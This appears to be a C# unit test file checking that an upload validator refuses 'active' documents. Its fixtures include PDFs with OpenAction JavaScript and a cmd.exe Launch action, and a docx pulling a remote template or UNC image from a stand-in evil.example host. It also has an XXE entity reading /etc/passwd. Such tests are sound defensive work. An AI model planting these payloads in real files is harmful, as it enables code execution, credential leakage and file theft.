using System.IO.Compression;
using System.Text;
using PolicyAssistantBot.Files;
using PolicyAssistantBot.Tests.Support;

namespace PolicyAssistantBot.Tests.Issues.Attacks;

/// <summary>
/// Accepted: a PDF that runs a script when it is opened, a picture that is a PDF too, documents that load a template from the internet or
/// contain an embedded program.
/// </summary>
public sealed class ActiveFilesTests
{
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    public static TheoryData<string, byte[], bool> Files() =>
        new()
        {
            { "a.pdf", SampleFiles.Pdf, true },
            { "a.pdf", Pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), false },
            { "a.pdf", Pdf("/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>"), false },
            { "a.pdf", Pdf("/AA<</O<</S/Launch/F(cmd.exe)>>>>"), false },
            { "a.pdf", ObjectStream("<</S/JavaScript/JS(app.alert(1))>>"), false },
            { "a.pdf", ObjectStream(new string(' ', 200_000) + "<</S /Launch>>"), false },
            { "a.pdf", ObjectStream("<</Type/Catalog>>"), true },
            { "a.pdf", Pdf("/Launcher 1 /Names<</JavaScripts 2>>"), true },
            { "a.pdf", [.. "GIF89a"u8, .. SampleFiles.Pdf], false },
            {
                "a.docx",
                Document(("word/_rels/settings.xml.rels", Relation("attachedTemplate", "https://evil.example/a.dotm", "External"))),
                false
            },
            { "a.docx", Document(("word/_rels/document.xml.rels", Relation("image", "\\\\evil.example\\a.png", "external"))), false },
            { "a.docx", Document(("word/_rels/document.xml.rels", Relation("hyperlink", "https://hanoi.gov.vn", "External"))), true },
            { "a.docx", Document(("word/_rels/document.xml.rels", Relation("image", "media/a.png", "Internal"))), true },
            { "a.docx", Document(("word/embeddings/oleObject1.bin", "MZ")), false },
            { "a.docx", Document(("word/activeX/activeX1.xml", "<x/>")), false },
            { "a.docx", Document(("word/embeddings/Microsoft_Excel_Sheet.xlsx", "PK")), true },
            {
                "a.docx",
                Document(("word/_rels/document.xml.rels", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")),
                false
            },
            { "a.docx", Document(("word/_rels/document.xml.rels", "<unclosed")), false },
            { "a.doc", [.. SampleFiles.Compound, .. Encoding.Unicode.GetBytes("\u0001Ole10Native")], false },
        };

    [Theory]
    [MemberData(nameof(Files))]
    public void A_file_that_does_something_when_it_is_opened_is_refused(string name, byte[] content, bool isAccepted)
    {
        var problem = FileContentCheck.Check(new MemoryStream(content), FileKinds.FindByFileName(name)!);
        Assert.Equal(isAccepted, problem is null);
    }

    private static byte[] Pdf(string catalog) =>
        Encoding.ASCII.GetBytes($"%PDF-1.7\n1 0 obj<</Type/Catalog{catalog}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");

    private static byte[] ObjectStream(string objects)
    {
        using var compressed = new MemoryStream();
        using (var deflate = new ZLibStream(compressed, CompressionLevel.Fastest, leaveOpen: true))
        {
            deflate.Write(Encoding.ASCII.GetBytes($"1 0 {objects}"));
        }

        return
        [
            .. Encoding.ASCII.GetBytes(
                $"%PDF-1.7\n5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {compressed.Length}>>\nstream\r\n"
            ),
            .. compressed.ToArray(),
            .. "\nendstream endobj\n%%EOF\n"u8,
        ];
    }

    private static byte[] Document(params (string Name, string Content)[] parts)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in parts.Concat([("[Content_Types].xml", "<x/>"), ("word/document.xml", "<x/>")]))
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(Encoding.UTF8.GetBytes(content));
            }
        }

        return memory.ToArray();
    }

    private static string Relation(string type, string target, string mode) =>
        $"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
        + $"<Relationship Id='r1' Type='{Office}/{type}' Target='{target}' TargetMode='{mode}'/></Relationships>";
}
